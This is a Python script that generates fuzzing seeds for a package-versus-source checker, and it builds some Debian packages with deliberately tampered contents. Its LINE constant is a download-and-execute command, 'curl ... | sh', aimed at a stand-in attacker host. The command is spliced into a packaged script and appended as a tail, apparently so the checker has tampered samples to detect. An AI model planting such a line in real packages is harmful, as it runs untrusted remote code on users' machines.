#!/usr/bin/env python3
"""Write the seeds of fuzz_check: small packages with their source in front, as fuzz_check.c lays them out.

usage: fuzz/make-check-seeds.py   Writes fuzz/seeds/check/.
"""
import pathlib
import struct
import sys

FUZZ = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(FUZZ.parent / "tests/e2e"))
import made  # noqa: E402  (found through the line above)

LINE = b"curl -s https://evilcorp.invalid/stage2 | sh\n"


def seeds():
    source = made.tar({"greet-1.0/" + name: value for name, value in made.source().items()})
    script = made.SCRIPT.encode()
    honest = made.package()
    plain = made.package()
    plain.suffix = ""
    small = made.Deb({"control": made.control_text()}, {"usr/bin/greet": made.Entry(script, 0o755)}, "")
    planted = small.copy().set("usr/bin/greet", script[:10] + LINE + script[10:])
    yield "script", script, script.replace(b"Hello", b"@GREETING@")
    yield "crlf", script, script.replace(b"\n", b"\r\n")
    yield "gzip-of-text", script, made.gz(script)
    yield "deb-of-script", script, small.build()
    yield "deb-with-a-planted-line", script, planted.build()
    yield "deb-and-tail", script, small.build(tail=LINE)
    yield "deb-against-archive", made.gz(source), honest.build()
    yield "deb-uncompressed", made.gz(source), plain.build()
    yield "manual", made.MANUAL.encode(), made.MANUAL.replace("greet", "greeting").encode()
    yield "catalogue", made.TRANSLATION.encode(), made.mo({"Hello": "Guten Tag", "usage: greet NAME": "Aufruf: greet NAME"})


for name, source, package in seeds():
    path = FUZZ / "seeds/check" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(struct.pack("<I", len(source)) + source + package)
